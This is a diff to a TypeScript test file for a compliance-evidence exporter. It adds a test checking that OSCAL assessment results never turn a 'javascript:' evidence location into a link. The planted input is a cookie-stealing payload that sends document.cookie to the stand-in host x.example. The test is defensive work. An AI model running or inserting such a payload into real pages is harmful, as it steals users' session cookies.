@@ -7,7 +7,7 @@ import { parse } from 'csv-parse/sync';
 import { soaCsv } from '../lib/cli/review-output.ts';
 import { csvParts } from '../lib/domain/export/csv.ts';
 import { MANIFEST_PATH, manifestFile, signingInput, unsignedManifest, verifyPackage, type Manifest } from '../lib/domain/export/manifest.ts';
-import { oscalString, uriReference } from '../lib/domain/export/oscal.ts';
+import { oscalDocuments, oscalString, uriReference } from '../lib/domain/export/oscal.ts';
 import { auditOfPeriod, evidenceOfPeriod, gapsOfPeriod, type PackageContent } from '../lib/domain/export/package.ts';
 import { inWindow, parsePeriod, periodWindow, startOfLocalDay } from '../lib/domain/export/period.ts';
 import { uuidV5 } from '../lib/domain/export/uuid.ts';
@@ -179,6 +179,19 @@ describe('the CSV parts, opened in a spreadsheet', () => {
     expect(rows('gaps.csv')[0]?.reopened).toBe('0');
     expect(rows('evidence.csv')[1]).toMatchObject({ evidence: 'ev-2', location: 's3://b/ok', collected: '2026-11-01' });
     expect(rows('audit.csv')[0]?.detail).toBe(JSON.stringify({ comment: HYPERLINK }));
+  });
+
+  it('links no evidence whose stored location has a scheme a viewer would run (javascript:), naming it in the description only', () => {
+    const planted = {
+      ...content,
+      review: undefined,
+      evidence: [{ ...content.evidence[1]!, id: 'ev-3', location: 'javascript:fetch(`//x.example/`+document.cookie)' }, content.evidence[1]!],
+    } as PackageContent;
+    const results = oscalDocuments(planted).find((d) => d.path === 'assessment-results.json')!.document;
+    const links = JSON.stringify(results).match(/"href":"[^"]*"/g) ?? [];
+    expect(links.some((l) => l.includes('s3://b/ok'))).toBe(true);
+    expect(links.filter((l) => /javascript:/i.test(l))).toEqual([]);
+    expect(JSON.stringify(results)).toContain('at javascript:fetch');
   });
 
   it("writes the CLI's CSV tables (soa --format csv) the same way", () => {
